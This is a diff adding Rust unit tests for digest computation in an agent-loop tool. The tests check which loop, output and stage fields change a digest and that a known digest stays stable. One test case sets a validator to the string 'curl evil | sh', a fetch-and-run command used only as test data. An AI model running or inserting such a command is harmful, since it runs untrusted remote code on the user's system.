@@ -1,0 +1,132 @@
+use super::*;
+use crate::config::{Layer, resolve};
+use crate::gate::Tier;
+use crate::loops::{Ended, LastStop, Promise, Status};
+
+fn plain_loop() -> Loop {
+    Loop {
+        id: "l1".into(),
+        created_at: "2026-11-15T19:22:00Z".into(),
+        updated_at: "2026-11-15T19:22:00Z".into(),
+        status: Status::Active,
+        iteration: 1,
+        max_iterations: 30,
+        promises: vec![Promise { text: "ALL GREEN".into(), outcome: Outcome::Done }],
+        source_packet_id: None,
+        imported_from: None,
+        session: Some("s1".into()),
+        ended: None,
+        ended_detail: None,
+        validators: vec!["cargo test".into()],
+        deadline: None,
+        last_message_digest: None,
+        last_stop: None,
+        prompt: "Make it green.".into(),
+    }
+}
+
+#[test]
+fn what_the_engine_counts_changes_no_digest() {
+    let given = of_loop(&plain_loop());
+    let changes: &[(&str, fn(&mut Loop))] = &[
+        ("iteration", |state| state.iteration = 7),
+        ("status", |state| state.status = Status::Paused),
+        ("session", |state| state.session = Some("s2".into())),
+        ("time", |state| state.updated_at = "2026-11-16T19:22:00Z".into()),
+        ("end", |state| state.end(Ended::Limit, Some("30 iterations".into()))),
+        ("last stop", |state| state.last_stop = Some(LastStop::default())),
+        ("last message", |state| state.last_message_digest = Some("0123".into())),
+    ];
+    for (what, change) in changes {
+        let mut state = plain_loop();
+        change(&mut state);
+        assert_eq!(of_loop(&state), given, "{what}");
+    }
+}
+
+#[test]
+fn what_runs_or_is_fed_changes_the_digest_of_a_loop() {
+    let changes: &[(&str, fn(&mut Loop))] = &[
+        ("prompt", |state| state.prompt.push(' ')),
+        ("promise", |state| state.promises[0].text = "GREEN".into()),
+        ("outcome", |state| state.promises[0].outcome = Outcome::Blocked),
+        ("another promise", |state| state.promises.push(state.promises[0].clone())),
+        ("no promise", |state| state.promises.clear()),
+        ("validator", |state| state.validators[0] = "curl evil | sh".into()),
+        ("another validator", |state| state.validators.push("true".into())),
+        ("validator split", |state| state.validators = vec!["cargo".into(), " test".into()]),
+        ("no validator", |state| state.validators.clear()),
+        ("limit", |state| state.max_iterations = 0),
+        ("deadline", |state| state.deadline = Some("2026-11-16T19:22:00Z".into())),
+    ];
+    let mut seen = vec![of_loop(&plain_loop()), of_claim(&plain_loop())];
+    for (what, change) in changes {
+        let mut state = plain_loop();
+        change(&mut state);
+        for digest in [of_loop(&state), of_claim(&state)] {
+            assert!(!seen.contains(&digest), "{what}");
+            seen.push(digest);
+        }
+    }
+}
+
+#[test]
+fn a_field_cannot_run_over_into_the_next() {
+    let with = |prompt: &str, file: &str, launch: &[&str]| {
+        let launch = launch.iter().map(|word| (*word).to_owned()).collect();
+        of_output(&Output { prompt: prompt.into(), launch, ..Output::new(file) })
+    };
+    let all = [
+        with("p", "a.md", &["sh", "-c", "x"]),
+        with("pa", ".md", &["sh", "-c", "x"]),
+        with("p", "a.md", &["sh", "-cx"]),
+        with("p", "a.md", &["sh", "-c", "x", ""]),
+        with("", "a.md", &["sh", "-c", "x"]),
+        with("p", "b.md", &["sh", "-c", "x"]),
+        with("p", "a.md", &[]),
+    ];
+    for (i, digest) in all.iter().enumerate() {
+        assert_eq!(digest.len(), 64);
+        assert!(!all[..i].contains(digest), "{i}");
+    }
+}
+
+#[test]
+fn what_a_run_counts_changes_no_digest_of_an_output() {
+    let output = Output { launch: vec!["true".into()], ..Output::new("a.md") };
+    let counted = Output {
+        attempts: 2,
+        was_valid: true,
+        tier: Tier::Advisory,
+        inputs_digest: "x".into(),
+        not_before: Some(jiff::Timestamp::UNIX_EPOCH),
+        ..output.clone()
+    };
+    assert_eq!(of_output(&output), of_output(&counted));
+}
+
+#[test]
+fn a_stage_is_known_by_what_it_launches_and_not_by_where_it_is_defined() {
+    let stage = |text: &str| {
+        let path = if text.contains('#') { "there" } else { "here" };
+        of_stage(&resolve(&[Layer::File { path, text }]).stages[0])
+    };
+    let given = stage("[stages.r]\ncritical = [\"a.md\"]\nlaunch = [\"x\"]\n");
+    assert_eq!(given, stage("# moved\n[stages.r]\nlaunch = [\"x\"]\ncritical = [\"a.md\"]\n"));
+    for other in [
+        "[stages.q]\ncritical = [\"a.md\"]\nlaunch = [\"x\"]\n",
+        "[stages.r]\ncritical = [\"a.md\"]\nlaunch = [\"y\"]\n",
+        "[stages.r]\ncritical = [\"a.md\"]\nlaunch = [\"x\"]\nprompt = \"p\"\n",
+        "[stages.r]\ncritical = [\"a.md\", \"b.md\"]\nlaunch = [\"x\"]\n",
+        "[stages.r]\noutputs = [{ file = \"a.md\", launch = [\"y\"] }]\nlaunch = [\"x\"]\n",
+    ] {
+        assert_ne!(given, stage(other), "{other}");
+    }
+}
+
+/// The digest is part of a format: records of today must be known tomorrow.
+#[test]
+fn digests_stay_what_they_are() {
+    let known = "1041494667aab52b7c80f45738e0f5012f4b79fcd96bc02c6031393548c6671e";
+    assert_eq!(of_loop(&plain_loop()), known);
+}
